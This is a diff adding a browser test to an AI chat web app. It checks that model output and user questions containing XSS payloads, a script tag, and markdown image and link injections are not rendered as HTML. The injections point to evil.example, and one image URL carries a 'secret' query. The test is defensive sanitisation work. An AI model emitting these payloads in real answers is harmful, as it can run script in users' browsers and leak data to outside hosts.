@@ -41,6 +41,34 @@ def test_the_first_words_are_seen_before_the_last_and_what_no_page_proves_is_mar
         expect(page.locator(".answer .unverified").first).to_contain_text("확인되지 않음")
 
 
+def test_nothing_that_a_model_writes_becomes_html_a_picture_or_a_link(
+    new_page: NewPage,
+    remote_app: str,
+    server_port: int,
+    server_environment: dict[str, str],
+    model: SlowModel,
+    log: Path,
+) -> None:
+    with serve(log, server_port, **server_environment):
+        model.words = [
+            "<img src=x onerror=alert(1)>",
+            "<script>document.title='owned'</script>",
+            "![그림](http://evil.example/a.png?q=secret)",
+            "[누르세요](http://evil.example/)",
+            "http://evil.example/bare",
+            "끝났습니다.",
+        ]
+        model.pause = 0.05
+        page = new_page(remote_app)
+        ask(page, "<b>제습기</b> ![x](http://evil.example/b.png) 물통은?")
+        answered(page)
+        expect(page.locator(".answer")).to_contain_text("끝났습니다.")
+        for drawn in (".answer", "[class*=st-key-asked]"):
+            assert page.locator(f"{drawn} :is(a, img, script, b)").count() == 0
+        assert page.title() != "owned"
+        # `new_page` fails the test when the page asks evil.example for anything.
+
+
 def test_a_stopped_answer_stops_the_work_and_keeps_what_was_said(
     new_page: NewPage,
     remote_app: str,
